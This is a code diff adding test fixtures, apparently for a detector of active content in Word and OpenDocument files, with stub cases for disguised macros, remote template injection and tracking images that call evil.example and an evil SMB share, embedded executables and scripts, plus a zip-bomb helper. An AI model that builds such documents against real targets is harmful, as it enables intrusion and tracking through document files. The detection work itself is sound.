@@ -85,6 +85,51 @@ def archive(**members: bytes) -> bytes:
     return kept.getvalue()
 
 
+def document(types: str = "", relations: str = "", **members: bytes) -> bytes:
+    """A document of Word with those content types and relationships, and further members."""
+    described = {
+        "[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{types}</Types>',
+        "word/_rels/document.xml.rels": (
+            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relations}</Relationships>'
+        ),
+    }
+    kept = io.BytesIO(archive(word__document_DOT_xml=b"<x/>", **members))
+    with zipfile.ZipFile(kept, "a", zipfile.ZIP_DEFLATED) as made:
+        for name, content in described.items():
+            made.writestr(name, content)
+    return kept.getvalue()
+
+
+def _related(kind: str, target: str, mode: str = "External") -> str:
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    return f'<Relationship Id="a" Type="{office}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+
+
+def _opendocument(**members: bytes) -> bytes:
+    return archive(mimetype=b"application/vnd.oasis.opendocument.text", content_DOT_xml=b"<x/>", **members)
+
+
+MACROS = '<Override PartName="/word/harmless.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+ACTIVE_DOCUMENTS: Mapping[str, Callable[[], bytes]] = {
+    "macros under another name": lambda: document(MACROS, word__harmless_DOT_bin=b"x"),
+    "macros by their relationship": lambda: document(relations=_related("vbaProject", "harmless.bin", "Internal")),
+    "template of the web": lambda: document(relations=_related("attachedTemplate", "https://evil.example/a.dotm")),
+    "template of another computer": lambda: document(relations=_related("attachedTemplate", "file://evil/share/a.dotm")),
+    "picture of the web": lambda: document(relations=_related("image", "https://evil.example/seen.png")),
+    "object of another program": lambda: document(relations=_related("oleObject", "embeddings/a.bin", "Internal")),
+    "program embedded": lambda: document(word__embeddings__a_DOT_docx=EXE),
+    "macros in what is embedded": lambda: document(word__embeddings__a_DOT_xlsx=document(MACROS)),
+    "OpenDocument with Basic": lambda: _opendocument(Basic__Standard__Module1_DOT_xml=b"<x/>"),
+    "OpenDocument with a script": lambda: _opendocument(Scripts__python__a_DOT_py=b"x"),
+}  # fmt: skip
+HARMLESS_DOCUMENTS: Mapping[str, Callable[[], bytes]] = {
+    "link": lambda: document(relations=_related("hyperlink", "https://example.org/")),
+    "the author's own template": lambda: document(relations=_related("attachedTemplate", "file:///C:\\Vorlagen\\Brief.dotx")),
+    "table behind a chart": lambda: document(word__embeddings__a_DOT_xlsx=archive(xl__workbook_DOT_xml=b"<x/>")),
+    "OpenDocument": _opendocument,
+}  # fmt: skip
+
+
 def docx_bomb(megabytes: int) -> bytes:
     return archive(word__document_DOT_xml=b"<x/>", word__media__a_DOT_bin=bytes(megabytes << 20))
 
